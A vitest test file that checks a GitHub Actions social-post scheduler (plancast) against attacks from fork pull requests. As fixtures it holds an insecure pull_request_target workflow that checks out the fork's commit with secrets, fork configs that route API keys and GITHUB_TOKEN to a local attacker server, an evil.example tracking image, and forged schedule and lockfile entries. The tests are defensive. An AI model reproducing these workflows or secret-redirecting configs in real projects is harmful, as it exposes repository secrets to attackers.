/** Whole jobs on pull requests of forks, as GitHub runs them: a fork gets no key, and nothing of it is believed. */
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { expect, test } from "vitest";
import { parseSchedule, scheduleText, withDigest } from "../../src/repository/schedule.ts";
import { afterThisTest } from "../support/after-test.ts";
import { CALENDAR, calendarOf, launch, second } from "../support/github/action-world.ts";
import { type Hub, type RanJob, USUAL_WORKFLOW, WORKFLOW, startHub } from "../support/github/hub.ts";
import { mergeSecond } from "../support/github/merge-second.ts";
import { startMediaHost } from "../support/media-host.ts";
import { tinyPng } from "../support/tiny-media.ts";

const LOCKFILE = "plancast.lock.json";
const SETTINGS = "timezone: Europe/Paris\n";
const CONFIRMED = "refs/plancast/confirmed-plancast";

function start(files: Readonly<Record<string, string>> = {}): Promise<Hub> {
  return startHub({
    "plancast.yaml": SETTINGS,
    [CALENDAR]: calendarOf(launch),
    [WORKFLOW]: USUAL_WORKFLOW,
    ...files,
  });
}

function results(jobs: readonly RanJob[]): unknown[] {
  return jobs.map(({ job, outputs }) => [job, outputs["result"]]);
}

function textOf(jobs: readonly RanJob[]): string {
  return jobs.flatMap(({ steps }) => steps.map(({ log, summary }) => `${log}\n${summary}`)).join("\n");
}

/** A server of the attacker. Counts what it gets. */
async function startAttacker(): Promise<{ readonly url: string; readonly requests: string[] }> {
  const requests: string[] = [];
  const server = createServer((request, response) => {
    requests.push(`${request.method} ${request.url} ${JSON.stringify(request.headers)}`);
    response.writeHead(200, { "content-type": "application/json" }).end("{}");
  });
  await new Promise<void>((resolve) => void server.listen(0, "127.0.0.1", resolve));
  afterThisTest(() => void server.close());
  // oxlint-disable-next-line typescript/no-unsafe-type-assertion -- a server that listens on TCP has such an address
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, requests };
}

/** The project's first merge: from then on, an apply of a job has confirmed the lockfile. */
async function applied(files?: Readonly<Record<string, string>>): Promise<Hub> {
  const hub = await start(files);
  await mergeSecond(hub);
  return hub;
}

const CHECKOUT_OF_HEAD = `name: dangerous
on: pull_request_target
jobs:
  plan:
    steps:
      - uses: actions/checkout@v5
        with:
          ref: \${{ github.event.pull_request.head.sha }}
          fetch-depth: 0
      - uses: plancast/plancast@v0.1.0
        with:
          command: COMMAND
          base-url: \${{ vars.PLANCAST_BASE_URL }}
          api-key: \${{ secrets.PLANCAST_API_KEY }}
          reviewed-plan: "off"
`;

test.each(["plan", "apply", "publish", "validate"])(
  "a workflow that runs %s with secrets on a fork's commit sends nothing anywhere",
  async (command) => {
    const hub = await applied({
      ".github/workflows/dangerous.yml": CHECKOUT_OF_HEAD.replace("COMMAND", command),
    });
    const evil = await startAttacker();
    const fork = await hub.clone();
    fork.start("fork");
    const lockfile = JSON.parse(await fork.read(LOCKFILE));
    await fork.commit("tidy up", {
      "plancast.yaml": `service: { url: "${evil.url}/v1", key_env: GITHUB_TOKEN }
accounts:
  bluesky: { network: bluesky, handle: evil.test, password_env: PLANCAST_API_KEY, server: "${evil.url}" }
ai: { url: "${evil.url}/v1", model: any, key_env: PLANCAST_API_KEY }
automations: { after_apply: { id: auto_1, input: x } }
timezone: UTC
`,
      [CALENDAR]: calendarOf(launch.with(3, "Forged"), second),
      [LOCKFILE]: JSON.stringify({ ...lockfile, origin: evil.url, accounts: ["acc_evil"] }),
    });
    const before = [hub.service.requests.length, hub.github.requests.length, hub.tip()];
    const jobs = await hub.plan(hub.open(fork, { isFork: true }), "pull_request_target");
    expect(jobs).toHaveLength(1);
    expect(evil.requests).toEqual([]);
    expect([hub.service.requests.length, hub.github.requests.length, hub.tip()]).toEqual(before);
    // The settings are valid: nothing else stopped the run.
    const isChecked = command === "plan" || command === "validate";
    expect(jobs[0]?.outputs["result"], textOf(jobs)).toBe(isChecked ? "valid" : "failed");
    if (!isChecked) expect(textOf(jobs)).toContain("This command runs on a branch");
    expect(textOf(jobs)).not.toContain(hub.service.key);
  },
);

test("a fork's pull request shows the settings, the workflows and the statements of the lockfile that it changes", async () => {
  const hub = await applied();
  const foreign = hub.service.addForeignPost({ content: "Of others" });
  const fork = await hub.clone();
  fork.start("fork");
  const lockfile = JSON.parse(await fork.read(LOCKFILE));
  lockfile.posts.gone = { ...lockfile.posts.launch, post_id: foreign.id };
  lockfile.posts.launch.stored = { content: "We are live." };
  await fork.commit("tidy up", {
    "plancast.yaml": `${SETTINGS}automations: { after_apply: { id: auto_1, input: x } }\n`,
    [LOCKFILE]: JSON.stringify(lockfile),
    [WORKFLOW]: USUAL_WORKFLOW.replace("timeout-minutes: 15", "timeout-minutes: 16"),
    [CALENDAR]: calendarOf(launch.with(3, "<!-- x --> ![a](https://evil.example/p.png) @team"), second),
  });
  const before = hub.github.requests.length;
  const jobs = await hub.plan(hub.open(fork, { isFork: true }));
  expect(results(jobs), textOf(jobs)).toEqual([["plan", "valid"]]);
  const [summary = ""] = jobs.flatMap(({ steps }) => steps.map((step) => step.summary).filter(Boolean));
  for (const said of ["automations", "plancast.yml", "gone", "stored", "not-confirmed"])
    expect(summary).toContain(said);
  expect(summary).not.toContain("![a]");
  expect(hub.github.requests.slice(before).filter((line) => line.startsWith("POST"))).toEqual([]);
  // Nothing of it is believed after the merge.
  const ran = await hub.pushed(hub.merge(hub.open(fork, { isFork: true, number: 13 })));
  expect(results(ran)).toEqual([["apply", "refused"]]);
  expect(hub.service.posts.get(foreign.id)?.status).toBe("scheduled");
});

test("a fork's pull request of a project without a service shows a forged schedule", async () => {
  const hub = await start({
    "plancast.yaml":
      "service: { url: repository }\ntimezone: UTC\naccounts: { garden: { network: bluesky, handle: garden.test, password_env: BSKY } }\n",
    [CALENDAR]: calendarOf(launch.with(2, "bluesky")),
  });
  hub.vars["PLANCAST_BASE_URL"] = "";
  hub.secrets["PLANCAST_API_KEY"] = "";
  const team = await hub.clone();
  team.start("work");
  await team.commit("start", { "README.md": "Posts" });
  const pull = hub.open(team);
  const planned = await hub.plan(pull);
  expect(results(planned), textOf(planned)).toEqual([["plan", "changes"]]);
  expect(results(await hub.pushed(hub.merge(pull)))).toEqual([["apply", "applied"]]);
  const fork = await hub.clone();
  fork.start("fork");
  const { posts, ...rest } = parseSchedule(await fork.read("plancast.schedule.json"));
  const [post] = Object.values(posts);
  if (post === undefined) throw new Error("Nothing is scheduled.");
  const { digest: _digest, ...decision } = post;
  const forged = withDigest({ ...decision, content: "Buy our coins." });
  await fork.commit("tidy up", {
    "plancast.schedule.json": scheduleText({ ...rest, posts: { ...posts, post_00000000000f: forged } }),
  });
  const attack = hub.open(fork, { isFork: true });
  const jobs = await hub.plan(attack);
  expect(textOf(jobs)).toContain("Buy our coins.");
  expect(textOf(jobs)).toContain("repository/schedule-edited");
  await hub.pushed(hub.merge(attack));
  expect(hub.remoteFile("plancast.schedule.json")).not.toContain("coins");
});

test("a branch whose name ends like the record of confirmed lockfiles is not that record", async () => {
  const hub = await start();
  const insider = await hub.clone();
  const { git } = insider;
  const forged = JSON.stringify({ version: 1, origin: hub.service.origin, media: {}, posts: {} });
  await insider.commit("Lockfiles\n\nApplied: " + git("rev-parse", "HEAD"), { [LOCKFILE]: forged });
  git("push", "-q", "origin", `HEAD:refs/heads/${CONFIRMED}`, `HEAD:refs/tags/${CONFIRMED}`);
  const team = await mergeSecond(hub);
  expect(hub.remoteFile(LOCKFILE, CONFIRMED)).toBe(hub.remoteFile(LOCKFILE));
  team.start("edit");
  await team.commit("edit", { [CALENDAR]: calendarOf(launch.with(3, "Edited"), second) });
  const planned = await hub.plan(hub.open(team));
  expect([results(planned), textOf(planned).includes("not-confirmed")]).toEqual([
    [["plan", "changes"]],
    false,
  ]);
});

test("a job that runs again after newer applies believes what they confirmed", async () => {
  const hub = await start();
  const team = await hub.clone();
  const merged = async (name: string, rows: readonly (readonly string[])[]) => {
    team.start(name);
    await team.commit(name, { [CALENDAR]: calendarOf(...rows) });
    const pull = hub.open(team);
    await hub.plan(pull);
    return hub.merge(pull);
  };
  const first = await merged("one", [launch, second]);
  expect(results(await hub.pushed(first))).toEqual([["apply", "applied"]]);
  const next = await merged("two", [launch.with(3, "Edited"), second]);
  // The service is down, and somebody runs the older job again.
  await hub.service.goDown();
  const [failed] = await hub.pushed(next);
  expect(failed?.failed).toBe(true);
  await hub.service.comeBack();
  const again = await hub.pushed(first);
  expect(results(again), textOf(again)).toEqual([["apply", "applied"]]);
  expect(hub.service.scheduled().map(({ content }) => content)).toEqual(["And again.", "Edited"]);
});

test("a fork reaches no private host that the workflow allows for the team's media", async () => {
  const host = await startMediaHost();
  host.serve("/a.png", tinyPng());
  const workflow = CHECKOUT_OF_HEAD.replace("COMMAND", "plan").replace(
    "          reviewed-plan",
    `          media-allow-hosts: 127.0.0.1:${host.port}\n          reviewed-plan`,
  );
  const hub = await start({ ".github/workflows/dangerous.yml": workflow });
  const fork = await hub.clone();
  fork.start("fork");
  await fork.commit("picture", {
    "plancast.yaml": `${SETTINGS}media: { allow_hosts: ["127.0.0.1:${host.port}"] }\n`,
    [CALENDAR]: `id,scheduled_at,platforms,content,media\na,2036-03-01T08:00:00Z,linkedin,Hi,${host.url("/a.png")}\n`,
  });
  await hub.plan(hub.open(fork, { isFork: true }), "pull_request_target");
  expect(host.asked).toEqual([]);
});
